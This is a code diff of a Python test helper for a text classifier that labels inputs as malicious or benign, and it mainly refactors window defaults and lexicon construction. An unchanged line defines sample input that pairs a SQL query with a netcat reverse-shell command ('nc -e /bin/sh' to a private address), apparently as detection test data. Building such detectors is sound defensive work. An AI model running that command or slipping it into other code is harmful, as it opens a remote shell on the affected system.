@@ -12,11 +12,12 @@ from watchfloor.experts.domain import Domain
 from watchfloor.experts.packs import Plugged, save
 from watchfloor.experts.pieces import SHAPE, grams
 
+WINDOWS = Windows(size=32, overlap=4, most=2)
 TEXT = "select * from users where id = 1; nc -e /bin/sh 10.0.0.1 4444"
 
 
 def drawn(backbone: Backbone, name: str = "one", seed: int = 0, labels: tuple[str, ...] = ("malicious", "benign"),
-          windows: Windows = Windows(size=32, overlap=4, most=2), limit: float = 1e9) -> Plugged:  # fmt: skip
+          windows: Windows = WINDOWS, limit: float = 1e9) -> Plugged:  # fmt: skip
     draw = np.random.default_rng(seed)
     width, axes = len(backbone.background.centre), backbone.background.whiten.shape[1]
 
@@ -45,7 +46,8 @@ def listening(expert: Plugged, word: str, backbone: Backbone, label: str = "mali
     place = expert.card.labels.index(label)
     vectors = np.zeros((len(known), len(expert.card.labels)), np.int8)
     vectors[:, place] = 100
-    lexicon = Lexicon(known, vectors, np.ones(len(expert.card.labels), np.float32), np.eye(len(expert.card.labels), dtype=np.float32))
-    quiet = replace(expert.adapter, head=np.zeros_like(expert.adapter.head), bias=np.asarray(
-        [-4.0 if each == label else 4.0 for each in expert.card.labels], np.float32), lexicon=lexicon)
+    many = len(expert.card.labels)
+    lexicon = Lexicon(known, vectors, np.ones(many, np.float32), np.eye(many, dtype=np.float32))
+    bias = np.asarray([-4.0 if each == label else 4.0 for each in expert.card.labels], np.float32)
+    quiet = replace(expert.adapter, head=np.zeros_like(expert.adapter.head), bias=bias, lexicon=lexicon)
     return replace(expert, adapter=quiet)
